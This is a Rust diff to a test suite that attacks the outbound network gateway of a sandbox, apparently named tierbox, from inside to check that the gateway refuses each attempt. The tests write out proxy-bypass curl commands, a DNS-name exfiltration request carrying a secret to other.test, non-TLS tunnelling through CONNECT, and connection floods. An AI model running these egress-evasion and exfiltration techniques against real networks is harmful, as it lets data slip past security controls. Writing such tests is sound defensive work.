@@ -3,7 +3,7 @@
 
 use std::time::{Duration, Instant};
 
-use tierbox_core::{ExecRequest, KillReason, Network, Verdict as Decided};
+use tierbox_core::{Decision, ExecRequest, KillReason, Network, Verdict as Decided};
 
 use super::{Canary, attacks};
 use crate::attack::{Finding, findings, install, nothing_leaked};
@@ -25,12 +25,13 @@ attacks! { "egress":
 
 /// The gateway's address inside, if this is an environment with N1 in a world with servers.
 async fn gateway(s: &Subject) -> Verdict<String> {
-    if s.environment.report().tier.network() != Network::N1 || !world::is_inside() {
+    if s.environment.report().tier.network() != Network::N1 || s.factory.heard().is_none() {
         return skip("the environment has no gateway, or there are no servers for it");
     }
-    let address = s.text("sed -n 's/^nameserver //p' /etc/resolv.conf | head -n 1").await?;
-    ensure!(!address.is_empty(), "no resolver is named inside");
-    Ok(address)
+    let proxy = s.text("printf %s \"$http_proxy\"").await?;
+    let address = proxy.strip_prefix("http://").and_then(|rest| rest.strip_suffix(":3128"));
+    ensure!(address.is_some(), "the gateway is no proxy for programs inside: {proxy:?}");
+    Ok(address.unwrap_or_default().to_owned())
 }
 
 async fn tried(s: &Subject, args: &[&str]) -> Verdict<Vec<Finding>> {
@@ -80,11 +81,17 @@ async fn e45_other_names(s: Subject, _: Canary) -> Verdict {
 }
 
 async fn refused_is_written(s: &Subject, name: &str) -> Verdict {
-    let decisions = s.environment.decisions().await?;
-    let refused = decisions.iter().any(|one| one.verdict == Decided::Refused && one.name == name);
-    ensure!(refused, "no decision about {name} was written");
-    ensure!(decisions.iter().all(|one| one.verdict != Decided::Allowed || one.name != name), "{name} was allowed");
-    Ok(())
+    refusal_is_written(s, &format!("a refusal of {name}"), |one| one.name == name).await?;
+    refused_is_not_allowed(s, name).await
+}
+
+/// Waits for a record: it is written as its connection ends, a moment after the answer.
+async fn refusal_is_written(s: &Subject, what: &str, is_it: impl Fn(&Decision) -> bool + Send + Sync) -> Verdict {
+    let is_there = || async {
+        let decisions = s.environment.decisions().await?;
+        Ok(decisions.iter().any(|one| one.verdict == Decided::Refused && is_it(one)))
+    };
+    s.until(s.patience, &format!("{what} is on record"), is_there).await
 }
 
 async fn e45_what_hides_the_name(s: Subject, _: Canary) -> Verdict {
@@ -95,10 +102,8 @@ async fn e45_what_hides_the_name(s: Subject, _: Canary) -> Verdict {
     // A request of plain HTTP, and another protocol, in a tunnel and on the port for TLS.
     let request = "GET /x HTTP/1.1|Host: index.test||";
     let tunnelled = format!("CONNECT index.test:443 HTTP/1.1|Host: index.test:443||{request}");
-    let found = tried(&s, &["http", &proxy, &tunnelled]).await?;
-    let served =
-        s.environment.decisions().await?.iter().any(|one| one.verdict == Decided::Refused && one.rule.contains("not TLS"));
-    ensure!(served, "bytes that are not TLS were not refused: {found:?}");
+    tried(&s, &["http", &proxy, &tunnelled]).await?;
+    refusal_is_written(&s, "what is not TLS", |one| one.rule.contains("not TLS")).await?;
     nothing_leaked(&tried(&s, &["http", &tls, "SSH-2.0-x|", "\u{1}\u{2}|"]).await?)
 }
 
@@ -111,10 +116,7 @@ async fn e45_second_names(s: Subject, _: Canary) -> Verdict {
         let bad = ["index.test>other.test", "index.test>a.files.test", "index.test>", "index.test>>other.test"];
         nothing_leaked(&tried(&s, &args(&bad)).await?)?;
     }
-    let decisions = s.environment.decisions().await?;
-    let refused = decisions.iter().any(|one| one.verdict == Decided::Refused && one.rule.contains("and the second other.test"));
-    ensure!(refused, "no decision about the second hello was written");
-    Ok(())
+    refusal_is_written(&s, "the second hello", |one| one.rule.contains("and the second other.test")).await
 }
 
 async fn e45_no_http(s: Subject, _: Canary) -> Verdict {
@@ -185,26 +187,41 @@ async fn e47_names_as_a_channel(s: Subject, _: Canary) -> Verdict {
          curl -s -m 3 --noproxy '*' http://{secret}.other.test/; :"
     )))
     .await?;
-    let heard = world::heard()?;
+    let heard = s.factory.heard().unwrap_or_default();
     ensure!(!heard.contains(&secret), "the resolver outside heard of {secret}");
     Ok(())
 }
 
 async fn e48_without_variables(s: Subject, _: Canary) -> Verdict {
     gateway(&s).await?;
-    if !s.run(ExecRequest::shell("command -v curl")).await?.success() {
-        return skip("curl is not in the sandbox");
+    if s.run(ExecRequest::shell("command -v curl")).await?.success() {
+        return curl_without_variables(&s).await;
     }
-    let curl = |url: &str| {
-        ExecRequest::shell(format!("unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY ALL_PROXY; curl -sf -m 10 {url}"))
-    };
-    let good = s.run(curl("http://index.test/x")).await?;
-    ensure!(good.success() && good.stdout.text().contains("hello"), "the allowed name does not work: {good:?}");
-    for url in ["http://other.test/x", "http://203.0.113.10/x", "http://index.test:8081/x", "https://other.test/x"] {
-        ensure!(!s.run(curl(url)).await?.success(), "{url} was reached");
+    // The attack program knows of no proxy, and asks for names as programs do.
+    let request = |host: &str| format!("GET /x HTTP/1.1|Host: {host}|Connection: close||");
+    works(&tried(&s, &["http", "index.test:80", &request("index.test")]).await?)?;
+    for (target, host) in [("other.test:80", "other.test"), ("203.0.113.10:80", "index.test"), ("index.test:8081", "index.test")]
+    {
+        nothing_leaked(&tried(&s, &["http", target, &request(host)]).await?)?;
     }
-    let lie = s.run(curl("--resolve index.test:80:203.0.113.10 http://index.test/x")).await?;
-    ensure!(!lie.success(), "the server was reached past the gateway");
+    Ok(())
+}
+
+async fn curl_without_variables(s: &Subject) -> Verdict {
+    let curl = "unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY ALL_PROXY; curl() { command curl -sf -m 10 \"$@\"; };";
+    let good = s.run(ExecRequest::shell(format!("{curl} curl http://index.test/x"))).await?;
+    ensure!(good.success() && !good.stdout.text().is_empty(), "the allowed name does not work: {good:?}");
+    // At once: where a network says nothing to what it drops, each waits to the end of its time.
+    let bad = [
+        "http://other.test/x",
+        "http://203.0.113.10/x",
+        "http://index.test:8081/x",
+        "https://other.test/x",
+        "--resolve index.test:80:203.0.113.10 http://index.test/x",
+    ];
+    let each = bad.map(|way| format!("{{ ! curl {way} >/dev/null || echo '{way}'; }} &")).join(" ");
+    let tried = s.run(ExecRequest::shell(format!("{curl} {each} wait; echo tried"))).await?;
+    ensure!(tried.stdout.text() == "tried\n", "these were reached: {tried:?}");
     Ok(())
 }
 
@@ -225,7 +242,7 @@ async fn e51_slow_names(s: Subject, _: Canary) -> Verdict {
     let script: String = (0..60).map(asks).chain(["wait".to_owned()]).collect();
     let mut flood = s.spawn(s.shell(script)).await?;
     let before = lookups();
-    s.until(Duration::from_secs(30), "names are being looked up", || async { Ok(lookups() >= 4) }).await?;
+    s.until(s.scaled(Duration::from_secs(30)), "names are being looked up", || async { Ok(lookups() >= 4) }).await?;
     let start = Instant::now();
     let request = "GET /x HTTP/1.1|Host: index.test|Connection: close||";
     for _ in 0..20 {
@@ -235,7 +252,7 @@ async fn e51_slow_names(s: Subject, _: Canary) -> Verdict {
     let took = start.elapsed();
     flood.kill(KillReason::Cancelled);
     s.outcome(&mut flood).await?;
-    ensure!(took < Duration::from_secs(10), "the other sandbox waited {took:?} for twenty pages");
+    ensure!(took < s.scaled(Duration::from_secs(10)), "the other sandbox waited {took:?} for twenty pages");
     other.stop().await
 }
 
@@ -250,7 +267,7 @@ async fn e51_flood(s: Subject, _: Canary) -> Verdict {
         floods.push(s.spawn(request).await?);
     }
     // Both are in full swing when the first refusal for want of places is written.
-    s.until(Duration::from_secs(30), "the flood fills the sandbox's share", || async {
+    s.until(s.scaled(Duration::from_secs(30)), "the flood fills the sandbox's share", || async {
         let decisions = s.environment.decisions().await?;
         Ok(decisions.iter().any(|one| one.rule.contains("too many connections")))
     })
@@ -264,6 +281,6 @@ async fn e51_flood(s: Subject, _: Canary) -> Verdict {
         s.outcome(flood).await?;
     }
     works(&found)?;
-    ensure!(took < Duration::from_secs(5), "the other sandbox waited {took:?}");
+    ensure!(took < s.scaled(Duration::from_secs(5)), "the other sandbox waited {took:?}");
     other.stop().await
 }
